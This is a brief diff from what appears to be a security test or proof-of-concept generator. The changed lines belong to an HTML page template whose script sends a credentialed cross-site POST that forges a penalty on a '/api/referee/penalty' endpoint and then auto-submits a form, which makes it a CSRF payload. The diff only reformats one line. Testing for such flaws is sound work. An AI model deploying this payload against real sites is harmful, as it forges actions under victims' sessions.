@@ -25,7 +25,8 @@ fetch("{target}api/referee/penalty", {{method: "POST", mode: "no-cors", credenti
   headers: {{"Content-Type": "text/plain"}},
   body: JSON.stringify({{at_fault: 0, points: 100, reason: "forged"}})}})
   .catch(() => null)
-  .finally(() => {{ document.getElementById("state").textContent = "fetched"; document.getElementById("f").submit(); }});
+  .finally(() => {{ document.getElementById("state").textContent = "fetched";
+                    document.getElementById("f").submit(); }});
 </script></body></html>"""
 
 
